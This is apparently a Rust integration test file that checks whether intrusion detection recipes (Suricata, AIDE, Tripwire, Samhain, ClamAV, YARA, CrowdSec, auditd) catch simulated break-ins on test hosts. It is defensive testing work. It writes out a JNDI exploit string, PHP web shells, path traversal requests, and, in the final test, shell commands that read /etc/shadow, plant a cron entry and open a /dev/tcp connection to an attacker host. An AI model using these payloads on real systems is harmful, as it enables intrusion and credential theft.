//! The recipes of `examples/`: each with the real IDS, from its own files, and an attack that it
//! must see.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::net::UnixDatagram;
use std::path::PathBuf;
use std::time::Duration;

use hyperspector_tests::{Fleet, Recipe, Shop, TestHost, repository, wait_until};

/// Brings a recipe up on a host.
#[track_caller]
fn up(host: &TestHost, recipe: &Recipe) {
    let spec = host.spec(recipe.text());
    host.up(&spec);
}

/// A web server that answers every request with nothing, until the test ends.
fn serve(host: &TestHost) {
    let listener = host.net.within(|| TcpListener::bind("0.0.0.0:80").unwrap());
    std::thread::spawn(move || {
        for mut client in listener.incoming().flatten() {
            let _ = client.read(&mut [0; 4096]);
            let _ = client.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
        }
    });
}

/// Sends a request from one host to another, and waits for the answer.
fn request(from: &TestHost, to: &TestHost, path: &str, header: &str) {
    let address = (to.address(), 80);
    let mut stream = from.net.within(|| TcpStream::connect(address).unwrap());
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let text = format!("GET {path} HTTP/1.1\r\nHost: web1\r\n{header}\r\n\r\n");
    stream.write_all(text.as_bytes()).unwrap();
    let _ = stream.read(&mut [0; 4096]);
}

#[test]
fn suricata_sees_an_exploit_in_a_request() {
    let fleet = Fleet::new(&["web1", "attacker"]);
    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
    serve(host);
    up(host, &Recipe::of("suricata"));
    host.wait_log("alpha/nids", "Engine started");
    let threads = "Threads created -> W: 2";
    assert!(host.logs("alpha/nids").contains(threads), "{}", host.logs("alpha/nids"));
    let alerts = || host.exec("alpha/nids", &["cat", "/var/log/suricata/fast.log"]).stdout;
    request(attacker, host, "/", "User-Agent: none");
    wait_until("Suricata sees the exploit", || {
        request(attacker, host, "/", "User-Agent: ${jndi:ldap://192.0.2.66/a}");
        alerts().contains("JNDI lookup in a request")
    });
    assert!(alerts().contains("-> 192.0.2.11:80"), "{}", alerts());
    assert!(!alerts().contains("path traversal"), "{}", alerts());
}

/// Brings up a recipe for a server's files, and waits for the end of its first run.
#[track_caller]
fn first_run(host: &TestHost, recipe: &Recipe, portspace: &str) {
    up(host, recipe);
    let portspace = host.wait_state(portspace, "waiting");
    assert_eq!(portspace.rest["last_end"]["status"], 0, "{portspace:?}");
}

#[test]
fn aide_finds_what_a_break_in_changed() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(host, &Recipe::of("aide").with_directory("/srv/shop", shop.path()), "alpha/fim");
    let check = || host.exec("alpha/fim", &["/etc/ids/check"]).expect(0).stdout;
    assert!(check().contains("found NO differences"), "{}", check());
    shop.break_in();
    let found = check();
    let changed: Vec<&str> = found.lines().filter_map(|line| line.strip_prefix("f ")).collect();
    assert_eq!(changed.len(), 2, "{found}");
    assert!(changed[0].ends_with(": /etc/passwd"), "{found}");
    assert!(changed[1].ends_with(": /usr/bin/login"), "{found}");
    host.exec("alpha/fim", &["/etc/ids/accept"]).expect(0);
    assert!(check().contains("found NO differences"), "{}", check());
}

#[test]
fn tripwire_finds_what_a_break_in_changed() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(
        host,
        &Recipe::of("tripwire").with_directory("/srv/shop", shop.path()),
        "alpha/tripwire",
    );
    let check = || host.exec("alpha/tripwire", &["/etc/ids/check"]).expect(0).stdout;
    assert!(check().contains("Total violations found:  0"), "{}", check());
    shop.break_in();
    let found = check();
    assert!(found.contains("Total violations found:  2"), "{found}");
    for path in ["etc/passwd", "usr/bin/login"] {
        let modified = format!("Modified:\n\"/.serverfs/shop/{path}\"\n");
        assert!(found.contains(&modified), "{found}");
    }
    host.exec("alpha/tripwire", &["/etc/ids/accept"]).expect(0);
    assert!(check().contains("Total violations found:  0"), "{}", check());
}

#[test]
fn samhain_is_told_of_what_a_break_in_changes() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    up(host, &Recipe::of("samhain").with_directory("/srv/shop", shop.path()));
    let log = || host.exec("alpha/samhain", &["cat", "/var/log/samhain/samhain.log"]).stdout;
    wait_until("Samhain watches", || log().contains("File check completed"));
    assert!(!log().contains("CRIT"), "{}", log());
    let alerted = |path: &str| {
        let path = format!("path=</.serverfs/shop/{path}>");
        log().lines().any(|line| line.contains("CRIT") && line.contains(&path))
    };
    // Soon, and not after the ten minutes that lie between two checks. What happens just after the
    // first check, while Samhain still asks for events, is found by the next.
    wait_until("Samhain is told of etc/hosts", || {
        shop.append("etc/hosts", "192.0.2.66 shop\n");
        alerted("etc/hosts")
    });
    shop.break_in();
    for path in ["etc/passwd", "usr/bin/login"] {
        wait_until(&format!("Samhain is told of {path}"), || alerted(path));
    }
    assert!(!log().contains("auth.log>"), "a log that grows is no alarm: {}", log());
    let alerts = || log().matches("CRIT").count();
    let (before, starts) = (alerts(), log().matches("<START>").count());
    host.exec("alpha/samhain", &["/etc/samhain/accept"]).expect(0);
    wait_until("Samhain checks anew", || {
        log().rsplit("<START>").next().unwrap().contains("File check completed")
            && log().matches("<START>").count() > starts
    });
    assert_eq!(alerts(), before, "what was accepted is no alarm: {}", log());
}

#[test]
fn clamav_finds_the_test_file_and_a_web_shell() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(host, &Recipe::of("clamav").with_directory("/srv/shop", shop.path()), "alpha/av");
    let found = || host.exec("alpha/av", &["cat", "/var/log/clamav/found.log"]).text();
    assert!(found().contains("Infected files: 0"), "{}", found());
    // In two parts, so that this file is none.
    let parts = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"];
    shop.write("srv/www/eicar.com", &parts.concat());
    shop.write("srv/www/up.php", "<?php eval($_POST['x']);");
    host.exec("alpha/av", &["/etc/ids/scan"]).expect(0);
    for alert in ["eicar.com: Test.File.EICAR.UNOFFICIAL", "up.php: Local.WebShell.PHP.UNOFFICIAL"]
    {
        assert!(found().contains(&format!("/.serverfs/shop/srv/www/{alert} FOUND")), "{}", found());
    }
    assert!(found().contains("Infected files: 2"), "{}", found());
}

#[test]
fn yara_finds_a_web_shell() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    let recipe = Recipe::of("yara").with_directory("/srv/www", &shop.path().join("srv/www"));
    first_run(host, &recipe, "alpha/yara");
    let found = || host.exec("alpha/yara", &["cat", "/var/log/yara/found.log"]).text();
    assert_eq!(found(), "");
    shop.write("srv/www/up.php", "<?php @eval(base64_decode($_POST['x']));");
    shop.write("srv/www/logo.gif", "GIF89a<?php phpinfo();");
    host.exec("alpha/yara", &["/etc/ids/scan"]).expect(0);
    let lines: Vec<String> = found().lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    for alert in ["php_web_shell /.serverfs/site/up.php", "image_with_php /.serverfs/site/logo.gif"]
    {
        assert!(lines.iter().any(|line| line.ends_with(alert)), "{lines:?}");
    }
}

#[test]
fn crowdsec_sees_who_guesses_passwords_and_who_climbs_out_of_the_document_root() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    shop.write("var/log/nginx/access.log", "");
    up(host, &Recipe::of("crowdsec").with_directory("/var/log", &shop.path().join("var/log")));
    host.wait_log("alpha/crowdsec", "Starting processing data");
    let list = ["cscli", "-c", "/etc/ids/config.yaml", "alerts", "list", "-o", "raw"];
    let alerts = || host.exec("alpha/crowdsec", &list).stdout;
    let sshd = |what: &str| format!("Nov 23 07:00:00 web1 sshd[17]: {what} port 4242 ssh2\n");
    shop.append("var/log/auth.log", &sshd("Accepted password for shop from 192.0.2.12"));
    // Not all at once: CrowdSec begins at the end that it finds.
    wait_until("CrowdSec sees the guesses", || {
        let guess = "Failed password for invalid user admin from 192.0.2.66";
        shop.append("var/log/auth.log", &sshd(guess));
        alerts().contains("Ip,192.0.2.66,crowdsecurity/ssh-bf,")
    });
    wait_until("CrowdSec sees the climbing", || {
        let requests = (0..5).map(|number| {
            format!(
                "192.0.2.77 - - [23/Nov/2026:07:00:00 +0000] \"GET /{number}/../../etc/passwd \
                 HTTP/1.1\" 404 12 \"-\" \"curl/8.0\"\n"
            )
        });
        shop.append("var/log/nginx/access.log", &requests.collect::<String>());
        alerts().contains("Ip,192.0.2.77,crowdsecurity/http-path-traversal-probing,")
    });
    assert!(!alerts().contains("192.0.2.12"), "who is let in is no alarm: {}", alerts());
}

#[test]
fn rsyslog_keeps_a_server_s_log_lines_on_another_host() {
    let fleet = Fleet::new(&["web1", "mon1"]);
    let (web1, mon1) = (fleet.host("web1"), fleet.host("mon1"));
    let shop = Shop::make(&fleet);
    // The host's own syslogd.
    let dev_log = fleet.dir().join("dev-log");
    let syslogd = UnixDatagram::bind(&dev_log).unwrap();
    syslogd.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let recipe = Recipe::of("rsyslog")
        .with_directory("/var/log", &shop.path().join("var/log"))
        .with("path = \"/dev/log\"", &format!("path = \"{}\"", dev_log.display()))
        .with("NRMWvuok5d1EKTXSTtOc+deVS5an3w83z/pVWa/GTSA=", &web1.key("alpha"))
        .with("EUDPTZEI3V3q5CdzeKNAep3z6eIvxOmO/YrhS1Cdt84=", &mon1.key("alpha"));
    up(mon1, &recipe);
    up(web1, &recipe);
    let address = web1.portspace("alpha/ship").address;
    let log = format!("/var/log/hosts/{address}.log");
    let kept = || mon1.exec("alpha/collect", &["cat", &log]).stdout;
    wait_until("the first line is kept", || kept().contains("auth a line"));

    shop.append("var/log/auth.log", "Failed password for root from 192.0.2.66 port 1 ssh2\n");
    mon1.wait_log("alpha/collect", "Failed password for root");
    let message = b"<86>Nov 23 07:00:00 sshd[17]: Failed password for mallory";
    UnixDatagram::unbound().unwrap().send_to(message, &dev_log).unwrap();
    mon1.wait_log("alpha/collect", "Failed password for mallory");
    let mut received = [0; 256];
    let length = syslogd.recv(&mut received).unwrap();
    assert_eq!(&received[..length], message, "the host's own syslogd has it, too");

    // What is written while the collector is away comes later.
    mon1.down();
    shop.append("var/log/auth.log", "session opened for user root by mallory\n");
    up(mon1, &recipe);
    wait_until("what was written meanwhile is kept", || kept().contains("by mallory"));
    // Each once, beside what rsyslogd says of itself.
    let lines = kept().lines().filter(|line| !line.contains(" rsyslogd: ")).count();
    assert_eq!(lines, 4, "{}", kept());
    let alerts = mon1.exec("alpha/collect", &["cat", "/var/log/alerts.log"]).text();
    assert_eq!(alerts.lines().count(), 3, "{alerts}");
    assert!(alerts.lines().all(|line| line.contains(&address)), "{alerts}");
}

/// What auditd writes when somebody opens a file for writing under a rule with a key.
fn record(serial: u32, key: &str) -> String {
    let id = format!("msg=audit({}.123:{serial})", 1_795_000_000 + serial * 10);
    format!(
        "type=SYSCALL {id}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0 a2=241 \
         a3=1b6 items=1 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 \
         fsgid=0 tty=pts0 ses=3 comm=\"vi\" exe=\"/usr/bin/vi\" subj=unconfined key=\"{key}\"\n\
         type=PATH {id}: item=0 name=\"/etc/passwd\" inode=131 dev=fe:00 mode=0100644 ouid=0 \
         ogid=0 rdev=00:00 nametype=NORMAL\n\
         type=PROCTITLE {id}: proctitle=7669002F6574632F706173737764\n"
    )
}

#[test]
fn ausearch_finds_who_changed_an_account_and_that_records_were_cut() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    let log = "var/log/audit/audit.log";
    shop.write(log, &record(1, "other"));
    let recipe =
        Recipe::of("audit").with_directory("/var/log/audit", &shop.path().join("var/log/audit"));
    first_run(host, &recipe, "alpha/audit");
    let search = || host.exec("alpha/audit", &["/etc/ids/search"]).expect(0);
    let found = || host.exec("alpha/audit", &["cat", "/var/log/audit-search/found.log"]).text();
    assert_eq!(found(), "");
    shop.append(log, &record(2, "identity"));
    search();
    assert!(found().contains(":2): item=0 name=\"/etc/passwd\""), "{}", found());
    // Rotated, and told once.
    fs::rename(shop.path().join(log), shop.path().join("var/log/audit/audit.log.1")).unwrap();
    shop.write(log, &record(3, "became-root"));
    search();
    search();
    let hits = |serial: u32| found().matches(&format!(":{serial}): arch=")).count();
    assert_eq!((hits(1), hits(2), hits(3)), (0, 1, 1), "{}", found());
    assert!(!found().contains("do not go on"), "{}", found());
    shop.write(log, &record(9, "other"));
    search();
    assert!(found().contains("the records do not go on where"), "{}", found());
    let report = ["aureport", "--input", "/.serverfs/audit", "--key", "--summary"];
    assert!(host.exec("alpha/audit", &report).text().contains("identity"));
}

#[test]
fn every_recipe_is_a_spec_without_mistakes() {
    let fleet = Fleet::new(&["web1"]);
    let files =
        fs::read_dir(repository().join("examples")).unwrap().flatten().map(|entry| entry.path());
    let specs = files.filter_map(|path| match path.extension() {
        Some(kind) if kind == "toml" => Some(path),
        _ => Some(path.join("spec.toml")).filter(|spec| spec.is_file()),
    });
    let specs: Vec<PathBuf> = specs.collect();
    assert!(specs.len() > 10, "{specs:?}");
    for spec in specs {
        fleet.host("web1").hyperspector(&["check", spec.to_str().unwrap()]).expect(0);
    }
}

#[test]
fn a_web_server_in_a_server_space_is_watched_by_four() {
    let fleet = Fleet::new(&["web1", "attacker"]);
    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
    let shop = Shop::make(&fleet);
    let examples = repository().join("examples").display().to_string();
    let documents = format!("from = \"{}\"", shop.path().join("srv/www").display());
    let recipe = Recipe::of("webserver")
        .with("\"/etc/hyperspector/", &format!("\"{examples}/"))
        .with("from = \"/srv/www\"", &documents);
    up(host, &recipe);
    host.wait_log("alpha/nids", "Engine started");
    host.wait_log("alpha/crowdsec", "Starting processing data");
    host.wait_state("alpha/yara", "waiting");
    let printed = |portspace: &str, command: &[&str]| host.exec(portspace, command).stdout;

    // nginx answers, writes its log, and both see what is asked of it.
    wait_until("Suricata and CrowdSec see who climbs out of the document root", || {
        for number in 0..5 {
            request(attacker, host, &format!("/{number}/../../etc/passwd"), "User-Agent: none");
        }
        let alerts = ["cscli", "-c", "/etc/ids/config.yaml", "alerts", "list", "-o", "raw"];
        printed("alpha/nids", &["cat", "/var/log/suricata/fast.log"]).contains("path traversal")
            && printed("alpha/crowdsec", &alerts).contains("http-path-traversal-probing")
    });
    // Also by syslog, from nginx and from others in the server space.
    host.exec("shop", &["logger", "--tag", "shop", "a line of its own"]).expect(0);
    for line in [" nginx: ", "/../../etc/passwd", " shop: a line of its own\n"] {
        wait_until(&format!("rsyslog keeps {line:?}"), || {
            printed("alpha/syslog", &["cat", "/var/log/shop.log"]).contains(line)
        });
    }
    // And what gets in all the same.
    shop.write("srv/www/up.php", "<?php eval($_POST['x']);");
    host.exec("shop", &["sh", "-c", "echo '<?php system($_GET[c]);' > /tmp/x.php"]).expect(0);
    host.exec("alpha/yara", &["/etc/site/scan"]).expect(0);
    let found = printed("alpha/yara", &["cat", "/var/log/yara/found.log"]);
    for path in ["srv/www/up.php", "tmp/x.php"] {
        let alert = format!("php_web_shell /.serverfs/shop/{path}\n");
        assert!(found.contains(&alert), "{found}");
    }
}

#[test]
fn aide_over_changes_finds_what_a_break_in_changed_once() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    first_run(
        host,
        &Recipe::of("aide-changes").with_directory("/srv/shop", shop.path()),
        "alpha/fim",
    );
    let check = || host.exec("alpha/fim", &["/etc/ids/check-changes"]).expect(0).stdout;
    settle();
    assert!(check().starts_with("looking at 0 changed paths"), "{}", check());
    shop.write("srv/www/odd [name] %41.html", "new\n");
    shop.break_in();
    fs::rename(shop.path().join("srv/www"), shop.path().join("srv/moved")).unwrap();
    settle();
    let found = check();
    assert!(found.starts_with("looking at "), "{found}");
    let ends = |end: &str| found.lines().any(|line| line.ends_with(end));
    for path in ["/etc/passwd", "/usr/bin/login"] {
        assert!(ends(&format!(": {path}")) && !ends(&format!("+: {path}")), "{path}: {found}");
    }
    for path in ["/srv/moved/index.html", "/srv/moved/odd [name] %41.html"] {
        assert!(ends(&format!("++: {path}")), "{path}: {found}");
    }
    assert!(ends("--: /srv/www/index.html"), "{found}");
    assert!(check().starts_with("looking at 0 changed paths"));
    // Everything still differs from what was accepted.
    let all = || host.exec("alpha/fim", &["/etc/ids/check-changes", "--all"]).expect(0).stdout;
    assert!(all().contains(": /usr/bin/login"), "{}", all());
    host.exec("alpha/fim", &["/etc/ids/accept"]).expect(0);
    assert!(all().contains("found NO differences"), "{}", all());
}

#[test]
fn tripwire_over_changes_finds_what_a_break_in_changed_once() {
    let fleet = Fleet::new(&["web1"]);
    let (host, shop) = (fleet.host("web1"), Shop::make(&fleet));
    let recipe = Recipe::of("tripwire-changes").with_directory("/srv/shop", shop.path());
    first_run(host, &recipe, "alpha/tripwire");
    let check = || host.exec("alpha/tripwire", &["/etc/ids/check-changes"]).expect(0).stdout;
    settle();
    assert!(check().starts_with("looking at 0 changed paths"), "{}", check());
    shop.write("srv/www/new page.html", "new\n");
    shop.write("home/nobody-looks-here", "new\n");
    fs::remove_file(shop.path().join("etc/hosts")).unwrap();
    shop.break_in();
    settle();
    let found = check();
    assert!(found.contains("Added: /.serverfs/shop/srv/www/new page.html\n"), "{found}");
    assert!(found.contains("Removed: /.serverfs/shop/etc/hosts\n"), "{found}");
    assert!(!found.contains("nobody-looks-here"), "{found}");
    assert!(found.contains("Total violations found:  2"), "{found}");
    for path in ["etc/passwd", "usr/bin/login"] {
        let modified = format!("Modified:\n\"/.serverfs/shop/{path}\"\n");
        assert!(found.contains(&modified), "{found}");
    }
    assert!(check().starts_with("looking at 0 changed paths"));
    fs::rename(shop.path().join("srv/www"), shop.path().join("srv/moved")).unwrap();
    settle();
    let found = check();
    assert!(found.starts_with("looking at everything\n"), "{found}");
}

/// What changed is on lists a moment later.
fn settle() {
    std::thread::sleep(Duration::from_millis(500));
}

/// A request with a command in it to the web shell that somebody has put among the documents.
fn through_the_shell(from: &TestHost, to: &TestHost, command: &str) {
    let encoded: String = command.bytes().map(|byte| format!("%{byte:02x}")).collect();
    request(from, to, &format!("/up.php?c={encoded}"), "Connection: close");
}

#[test]
fn a_web_shell_is_seen_by_its_system_calls() {
    let fleet = Fleet::new(&["web1", "attacker"]);
    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
    let shop = Shop::make(&fleet);
    shop.write("srv/www/shop.php", "<?php echo 'open since ', date('Y');");
    let examples = repository().join("examples").display().to_string();
    let documents = format!("from = \"{}\"", shop.path().join("srv/www").display());
    let recipe = Recipe::of("syscalls")
        .with("\"/etc/hyperspector/", &format!("\"{examples}/"))
        .with("from = \"/srv/www\"", &documents);
    up(host, &recipe);
    host.wait_log("alpha/crowdsec", "Starting processing data");
    let list = ["cscli", "-c", "/etc/ids/config.yaml", "alerts", "list", "-a", "-o", "raw"];
    let alerts = || host.exec("alpha/crowdsec", &list).stdout;
    let found = || {
        host.exec("alpha/audit", &["/etc/ids/search"]).expect(0);
        host.exec("alpha/audit", &["cat", "/var/log/audit-search/found.log"]).stdout
    };
    let written = || host.exec("alpha/audit", &["cat", "/var/log/shop/audit.log"]).stdout;

    // What it is there for is no alarm.
    wait_until("a page of PHP is served, and its calls are recorded", || {
        request(attacker, host, "/shop.php", "Connection: close");
        written().contains("/srv/www/shop.php")
    });
    let marks = found();
    assert!(!marks.contains("secrets") && !marks.contains("connects-out"), "{marks}");

    shop.write("srv/www/up.php", "<?php system($_GET['c']);");
    let address = attacker.address();
    let steps = [
        ("shell", "hyperspector/web-shell", "id".to_owned()),
        ("secrets", "hyperspector/secrets", "cat /etc/shadow".to_owned()),
        ("cron", "hyperspector/cron", "echo '* * * * * root x' > /etc/cron.d/x".to_owned()),
        (
            "connects-out",
            "hyperspector/connects-out",
            format!("bash -c 'echo in > /dev/tcp/{address}/4444'"),
        ),
    ];
    for (rule, scenario, command) in steps {
        through_the_shell(attacker, host, &command);
        wait_until(&format!("ausearch finds {rule}"), || {
            found().lines().any(|line| line.starts_with(rule))
        });
        wait_until(&format!("CrowdSec finds {scenario}"), || alerts().contains(scenario));
    }
    let report = ["aureport", "--input", "/var/log/shop", "--executable", "--summary"];
    let report = host.exec("alpha/audit", &report).text();
    assert!(report.contains("/usr/bin/dash") && report.contains("/usr/bin/cat"), "{report}");
    assert!(!found().contains("records-lost"), "{}", found());
}
